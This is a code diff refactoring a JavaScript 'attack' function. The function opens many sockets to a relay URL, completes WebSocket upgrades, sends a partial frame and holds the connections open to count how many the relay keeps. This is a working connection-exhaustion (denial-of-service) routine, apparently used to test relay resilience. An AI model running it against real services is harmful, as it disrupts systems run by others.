@@ -16,12 +16,11 @@ const key = Buffer.alloc(16).toString('base64');
 export async function attack({ relayUrl, seconds }) {
   const { hostname, port, pathname } = new URL(relayUrl);
   const untilMs = Date.now() + seconds * 1_000;
-  const statuses = {};
+  const counts = { opened: 0, statuses: {} };
   const open = new Set();
-  let opened = 0;
   const start = () =>
     new Promise((resolve) => {
-      opened += 1;
+      counts.opened += 1;
       const socket = connect({ host: hostname, port: Number(port), localAddress });
       open.add(socket);
       socket.on('error', () => undefined);
@@ -31,7 +30,7 @@ export async function attack({ relayUrl, seconds }) {
       });
       socket.once('data', (data) => {
         const status = data.toString('latin1', 9, 12);
-        statuses[status] = (statuses[status] ?? 0) + 1;
+        counts.statuses[status] = (counts.statuses[status] ?? 0) + 1;
         if (status === '101') socket.write(fragment);
         else socket.destroy();
         resolve();
@@ -41,7 +40,7 @@ export async function attack({ relayUrl, seconds }) {
       );
     });
   const work = async () => {
-    while (Date.now() < untilMs && opened < opensMax) {
+    while (Date.now() < untilMs && counts.opened < opensMax) {
       await start();
       await wait(10);
     }
@@ -50,5 +49,5 @@ export async function attack({ relayUrl, seconds }) {
   await wait(Math.max(0, untilMs - Date.now()));
   const held = open.size;
   for (const socket of open) socket.destroy();
-  return { opened, statuses, held };
+  return { ...counts, held };
 }
